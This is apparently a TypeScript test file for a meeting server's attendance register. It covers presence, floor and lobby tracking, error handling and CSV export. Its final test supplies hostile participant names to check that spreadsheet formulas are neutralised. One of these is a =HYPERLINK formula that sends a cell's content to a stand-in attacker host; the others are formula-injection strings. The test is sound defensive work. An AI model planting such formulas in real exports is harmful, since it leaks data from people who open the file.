import assert from 'node:assert/strict';
import { AttendanceRegister } from '../../server/src/domain/AttendanceRegister.js';
import { RelaisError } from '../../server/src/domain/errors.js';
import type { EventActor, EventPerson, RoomEvent } from '../../server/src/domain/roomEvents.js';

const ROOM = 'crisis-59';
const T0 = Date.parse('2026-11-29T08:00:00.000Z');
const at = (seconds: number): number => T0 + seconds * 1000;
const isoAt = (seconds: number): string => new Date(at(seconds)).toISOString();

const chief: EventPerson = { sub: 'chief-1', name: 'Colonel Martin', role: 'moderator' };
const alice: EventPerson = { sub: 'alice', name: 'Alice Dupont', role: 'listener' };
const byChief: EventActor = { kind: 'moderator', sub: chief.sub, name: chief.name };

/** A small RFC 4180 reader, enough to read back what the register wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  assert.equal(field, '', 'the CSV ends with CRLF');
  return rows;
}

function meeting(): AttendanceRegister {
  const register = new AttendanceRegister(ROOM);
  const events: RoomEvent[] = [
    { type: 'room.started', room: ROOM, at: at(0), policy: 'lobby' },
    { type: 'participant.joined', room: ROOM, at: at(1), participant: chief },
    { type: 'lobby.admitted', room: ROOM, at: at(20), participant: alice, waitingSince: at(5), actor: byChief },
    { type: 'participant.joined', room: ROOM, at: at(21), participant: alice },
    { type: 'floor.given', room: ROOM, at: at(30), participant: alice, actor: byChief },
    { type: 'floor.taken', room: ROOM, at: at(90), participant: alice, actor: byChief },
    { type: 'participant.left', room: ROOM, at: at(100), participant: alice, reason: 'connection-lost' },
    { type: 'participant.joined', room: ROOM, at: at(110), participant: alice },
    {
      type: 'role.changed',
      room: ROOM,
      at: at(120),
      participant: { ...alice, role: 'speaker' },
      previous: 'listener',
      actor: byChief,
    },
    { type: 'policy.changed', room: ROOM, at: at(130), policy: 'locked', previous: 'lobby', actor: byChief },
  ];
  for (const event of events) register.record(event);
  return register;
}

describe('attendance register', () => {
  it('keeps each presence, the floor, role changes and lobby decisions of each person', () => {
    const json = meeting().toJson();
    assert.equal(json.room, ROOM);
    assert.equal(json.startedAt, isoAt(0));
    assert.equal(json.finishedAt, null);
    assert.equal(json.complete, true);
    assert.deepEqual(
      json.people.map((p) => p.sub),
      ['chief-1', 'alice'],
    );
    const a = json.people[1];
    assert.ok(a);
    assert.equal(a.role, 'speaker', 'the latest role');
    assert.deepEqual(a.presences, [
      { joinedAt: isoAt(21), leftAt: isoAt(100), role: 'listener', leaveReason: 'connection-lost' },
      { joinedAt: isoAt(110), leftAt: null, role: 'listener', leaveReason: null },
    ]);
    assert.deepEqual(a.floor, [{ givenAt: isoAt(30), takenAt: isoAt(90), givenBy: byChief, takenBy: byChief }]);
    assert.deepEqual(a.roleChanges, [{ at: isoAt(120), from: 'listener', to: 'speaker', by: byChief }]);
    assert.deepEqual(a.lobby, [{ waitingSince: isoAt(5), decidedAt: isoAt(20), outcome: 'admitted', by: byChief }]);
  });

  it('closes every open presence and floor when the room finishes, and refuses events after', () => {
    const register = meeting();
    register.record({ type: 'floor.given', room: ROOM, at: at(140), participant: alice, actor: byChief });
    register.record({ type: 'room.finished', room: ROOM, at: at(200), reason: 'ended-for-all', actor: byChief });
    const json = register.toJson();
    assert.equal(json.finishedAt, isoAt(200));
    assert.equal(json.finishReason, 'ended-for-all');
    for (const person of json.people) {
      assert.equal(person.presences.at(-1)?.leftAt, isoAt(200));
      assert.equal(person.presences.at(-1)?.leaveReason, 'ended-for-all');
    }
    assert.equal(json.people[1]?.floor.at(-1)?.takenAt, isoAt(200));
    const before = JSON.stringify(json);
    assert.throws(
      () => register.record({ type: 'participant.joined', room: ROOM, at: at(210), participant: alice }),
      (error: unknown) => error instanceof RelaisError && error.code === 'CONFLICT',
    );
    assert.equal(JSON.stringify(register.toJson()), before);
  });

  it('records a removal with its reason and the moderator, and hands back the floor', () => {
    const register = meeting();
    register.record({ type: 'floor.given', room: ROOM, at: at(140), participant: alice });
    register.record({
      type: 'participant.removed',
      room: ROOM,
      at: at(150),
      participant: alice,
      reason: 'removed',
      actor: byChief,
    });
    const a = register.toJson().people[1];
    assert.deepEqual(a?.presences.at(-1), {
      joinedAt: isoAt(110),
      leftAt: isoAt(150),
      role: 'listener',
      leaveReason: 'removed',
      removedBy: byChief,
    });
    assert.equal(a?.floor.at(-1)?.takenAt, isoAt(150));
  });

  it('keeps a refused newcomer who never entered', () => {
    const register = meeting();
    const bob: EventPerson = { sub: 'bob', name: 'Bob', role: 'speaker' };
    register.record({ type: 'lobby.refused', room: ROOM, at: at(60), participant: bob, waitingSince: at(50) });
    const b = register.toJson().people.find((p) => p.sub === 'bob');
    assert.deepEqual(b?.presences, []);
    assert.deepEqual(b?.lobby, [{ waitingSince: isoAt(50), decidedAt: isoAt(60), outcome: 'refused' }]);
  });

  it('follows a new name and role brought by a rejoin', () => {
    const register = meeting();
    register.record({ type: 'participant.left', room: ROOM, at: at(140), participant: alice, reason: 'left' });
    register.record({
      type: 'participant.joined',
      room: ROOM,
      at: at(150),
      participant: { sub: 'alice', name: 'Alice D.', role: 'moderator' },
    });
    const a = register.toJson().people[1];
    assert.equal(a?.name, 'Alice D.');
    assert.equal(a?.role, 'moderator');
    assert.deepEqual(a?.roleChanges.at(-1), { at: isoAt(150), from: 'speaker', to: 'moderator' });
  });

  it('refuses contradictions and malformed events with a typed error, changing nothing', () => {
    const register = meeting();
    const before = JSON.stringify(register.toJson());
    const cases: [unknown, string][] = [
      [{ type: 'participant.joined', room: ROOM, at: at(140), participant: alice }, 'CONFLICT'],
      [
        { type: 'participant.left', room: ROOM, at: at(140), participant: { ...alice, sub: 'x' }, reason: 'left' },
        'CONFLICT',
      ],
      [{ type: 'floor.taken', room: ROOM, at: at(140), participant: alice }, 'CONFLICT'],
      [{ type: 'room.started', room: ROOM, at: at(140), policy: 'open' }, 'CONFLICT'],
      [{ type: 'participant.joined', room: 'other-room', at: at(140), participant: alice }, 'INVALID_REQUEST'],
      [{ type: 'participant.joined', room: ROOM, at: -1, participant: alice }, 'INVALID_REQUEST'],
      [
        { type: 'participant.joined', room: ROOM, at: at(140), participant: { ...alice, role: 'admin' } },
        'INVALID_REQUEST',
      ],
      [{ type: 'chat.message', room: ROOM, at: at(140), text: 'hello' }, 'INVALID_REQUEST'],
      [null, 'INVALID_REQUEST'],
    ];
    for (const [event, code] of cases) {
      assert.throws(
        () => register.record(event as RoomEvent),
        (error: unknown) => error instanceof RelaisError && error.code === code,
        JSON.stringify(event),
      );
      assert.equal(JSON.stringify(register.toJson()), before, JSON.stringify(event));
    }
  });

  it('stops growing at its bound and says the export is incomplete', () => {
    const register = new AttendanceRegister(ROOM, { maxEntries: 4 });
    const person = (i: number): EventPerson => ({ sub: `p${i}`, name: `P ${i}`, role: 'listener' });
    for (let i = 0; i < 5; i += 1) {
      register.record({ type: 'participant.joined', room: ROOM, at: at(i), participant: person(i) });
    }
    // Leaves of joins that were never kept are not contradictions once the bound was hit.
    for (let i = 0; i < 5; i += 1) {
      register.record({ type: 'participant.left', room: ROOM, at: at(10 + i), participant: person(i), reason: 'left' });
    }
    const json = register.toJson();
    assert.equal(json.people.length, 2);
    assert.equal(json.complete, false);
    assert.equal(json.omittedEntries, 3);
    assert.ok(json.people.every((p) => p.presences[0]?.leftAt !== null));
  });

  it('writes CSV one row per interval, sorted by start, with RFC 4180 quoting', () => {
    const csv = meeting().toCsv();
    const rows = parseCsv(csv);
    assert.deepEqual(rows[0], ['room', 'sub', 'name', 'role', 'entry', 'start', 'end', 'duration_s', 'detail', 'by']);
    assert.deepEqual(
      rows.slice(1).map((r) => [r[1], r[4], r[5], r[6], r[7], r[8]]),
      [
        ['chief-1', 'presence', isoAt(1), '', '', ''],
        ['alice', 'lobby', isoAt(5), isoAt(20), '15', 'admitted'],
        ['alice', 'presence', isoAt(21), isoAt(100), '79', 'connection-lost'],
        ['alice', 'floor', isoAt(30), isoAt(90), '60', ''],
        ['alice', 'presence', isoAt(110), '', '', ''],
        ['alice', 'role', isoAt(120), isoAt(120), '0', 'listener to speaker'],
      ],
    );
    assert.equal(rows[2]?.[9], 'Colonel Martin (chief-1)');
    assert.ok(meeting().toCsv({ excelBom: true }).startsWith('\uFEFF'));
  });

  it('makes hostile names inert in a spreadsheet and keeps them readable', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '  =1+1',
      '\t=1',
      'Dupont, "Jean"\r\nline two',
      '＝1+1',
    ];
    const register = new AttendanceRegister(ROOM);
    names.forEach((name, i) => {
      register.record({
        type: 'participant.joined',
        room: ROOM,
        at: at(i),
        participant: { sub: `=sub${i}`, name, role: 'speaker' },
      });
    });
    const rows = parseCsv(register.toCsv()).slice(1);
    assert.equal(rows.length, names.length);
    rows.forEach((row, i) => {
      const name = names[i] as string;
      assert.equal(row.length, 10, 'the quoting keeps every field in its column');
      const expected = name.startsWith('Dupont') ? name : `'${name}`;
      assert.equal(row[2], expected);
      assert.equal(row[1], `'=sub${i}`);
    });
  });
});
